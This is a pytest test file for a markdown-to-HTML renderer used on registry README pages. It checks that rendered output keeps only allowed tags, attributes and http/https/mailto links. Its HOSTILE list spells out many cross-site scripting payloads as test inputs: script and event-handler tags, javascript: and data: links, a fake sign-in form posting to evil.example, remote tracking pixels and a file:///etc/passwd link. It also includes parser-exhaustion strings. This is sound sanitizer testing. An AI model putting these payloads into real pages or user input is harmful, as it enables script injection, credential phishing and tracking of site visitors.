"""README files: whatever is written, what comes out can only be read and followed to the web or to a mailbox."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.values.markdown import to_html

ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in ("h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code", "ul", "li", "strong", "em", "s", "del")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr")},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
    "a": {"href", "rel"},
}  # fmt: skip
VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Collects tags with their attributes, and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.deepest = 0
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)

    @property
    def links(self) -> list[str]:
        return [attributes["href"] or "" for tag, attributes in self.tags if tag == "a" and "href" in attributes]


def harmless(html: str) -> Reader:
    """The parsed ``html``, in which every tag, attribute and address is of the kind this test allows."""
    read = Reader(html)
    assert not read.open
    assert not read.other
    for tag, attributes in read.tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ALLOWED[tag], (tag, attributes)
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer"
        for name in ("align", "start"):
            assert attributes.get(name, "left") in ("left", "right", "center") or str(attributes[name]).isdigit()
    for link in read.links:
        scheme = re.match(r"[\x00-\x20]*([A-Za-z][^/?#:]*):", link)  # as a browser sees it: blanks before and tabs inside do not count
        assert scheme is None or scheme.group(1) in ("http", "https", "mailto"), link
    return read


HOSTILE = [
    # Tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><input name=password><button>Sign in again</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p class='govuk-button' id='main-content'>x</p>",
    "<a id=cookies name=getElementById>x</a>",
    "<h1 id='content'>x</h1>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><title>x</title></head></html>",
    "</p></div></main><script>alert(1)</script>",
    "<video src=//evil.example/x.mp4 autoplay><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=//evil.example></portal><dialog open>x</dialog>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x01;javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/x)",
    "[x](ms-word:ofe|u|//evil.example/x.docx)",
    "[x](search-ms:query=x&crumb=location:\\\\evil.example)",
    "[x](blob:https://evil.example/x)",
    "[x](http://good.example 'onmouseover=alert(1) \" onmouseover=\"alert(1)')",
    '[x](http://good.example/"onmouseover="alert(1))',
    "[x](http://good.example/'><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "javascript:alert(1)//http://good.example",
    "[a](http://a.example [b](javascript:alert(1)))",
    # Pictures
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](x)',
    "[![x](http://evil.example/x.png)](http://good.example)",
    "![x][y]\n\n[y]: //evil.example/pixel.png",
    # Code, tables, entities and what else has a place to break out of
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1) class=x\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "999999999. <script>alert(1)</script>",
    "# <script>alert(1)</script> {#main-content .hidden onclick=alert(1)}",
    "x {: onclick=alert(1)}",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "> <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~ **<b onclick=alert(1)>x</b>**",
    "{{ constructor.constructor('alert(1)')() }} {% load x %} ${7*7}",
]  # fmt: skip


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_comes_out(source: str) -> None:
    harmless(to_html(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_nor_from_inside_other_markdown(source: str) -> None:
    for wrapped in (
        f"# {source}",
        f"- {source}\n- b",
        f"> {source}",
        f"| a |\n|---|\n| {source} |",
        f"**{source}**",
        f"[{source}](http://good.example)",
    ):
        harmless(to_html(wrapped))  # fmt: skip


@pytest.mark.parametrize("source", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</main>", "<b>x</b>"])
def test_html_is_shown_as_it_was_written(source: str) -> None:
    """Not dropped: a README that speaks of tags says so."""
    assert harmless(to_html(source)).text.strip() == source


@pytest.mark.parametrize(
    "source",
    [
        "[" * 5_000,
        "![" * 5_000,
        "*" * 5_000,
        "*a_" * 3_000,
        "`" * 5_000,
        "> " * 2_000 + "a",
        "- " * 2_000 + "a",
        "<" * 5_000,
        "&" * 5_000,
        "[a](" * 3_000,
        "|" * 5_000 + "\n" + "|-" * 2_500,
        "http://" * 2_000,
        "a@" * 3_000,
        "[a]: b\n" * 3_000,
        "\\" * 5_000,
        "&#" + "9" * 5_000 + ";",
    ],
    ids=lambda source: source[:6],
)
def test_text_in_which_parsers_lose_themselves(source: str) -> None:
    """Nested deeper than a parser's stack, or so that a naive one would go over it again and again; the page stays shallow."""
    assert harmless(to_html(source)).deepest <= 100


@given(st.text(alphabet=st.sampled_from("<>\"'&;:#=/()[]!`*_-|\\ \n\tajsxonscript\0"), max_size=60))
def test_no_text_at_all_comes_out_hostile(source: str) -> None:
    harmless(to_html(source))


def test_an_honest_readme_keeps_its_shape() -> None:
    read = harmless(
        to_html(
            "# Pay a fine\n\nReads *fines* from **the register** and ~~pays~~ books them. See [the guide](https://www.example.org/guide?a=1&b=2#top)\n"
            "or write to <rpa@example.org>; more at https://example.org/more.\n\n## Steps\n\n3. Sign in\n4. Read\n   - one\n   - two\n\n"
            "| Field | Meaning | Sum |\n|:--|:-:|--:|\n| `in_Id` | the case | 1 |\n\n```vb\nIf a < b && c > d Then\n```\n\n> A note.\n\n---\n"
        )
    )
    assert [tag for tag, _ in read.tags if tag.startswith("h") and tag != "hr"] == ["h2", "h3"]
    assert read.links == ["https://www.example.org/guide?a=1&b=2#top", "mailto:rpa@example.org", "https://example.org/more"]
    assert [attributes for tag, attributes in read.tags if tag == "ol"] == [{"start": "3"}]
    assert {tag for tag, _ in read.tags} >= {"em", "strong", "s", "ul", "li", "table", "th", "td", "pre", "code", "blockquote", "hr"}
    assert "If a < b && c > d Then" in read.text
    assert "in_Id" in read.text


def test_columns_of_a_table_keep_their_side() -> None:
    html = to_html("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    sides = [attributes.get("align") for tag, attributes in harmless(html).tags if tag in ("th", "td")]
    assert sides == ["left", "center", "right"] * 2


def test_headings_begin_below_the_pages_own_and_end_at_the_sixth() -> None:
    html = to_html("\n\n".join(f"{'#' * level} Part {level}" for level in range(1, 7)))
    assert [tag for tag, _ in harmless(html).tags] == ["h2", "h3", "h4", "h5", "h6", "h6"]


@pytest.mark.parametrize("source", ["", "   ", "\n\n\t\n"])
def test_nothing_gives_nothing(source: str) -> None:
    assert to_html(source) == ""


def test_letters_of_every_language() -> None:
    assert harmless(to_html("Sagsbehandling på dansk: æøå, ÆØÅ — “quotes”, 日本, 🤖")).text.strip() == (
        "Sagsbehandling på dansk: æøå, ÆØÅ — “quotes”, 日本, 🤖"
    )
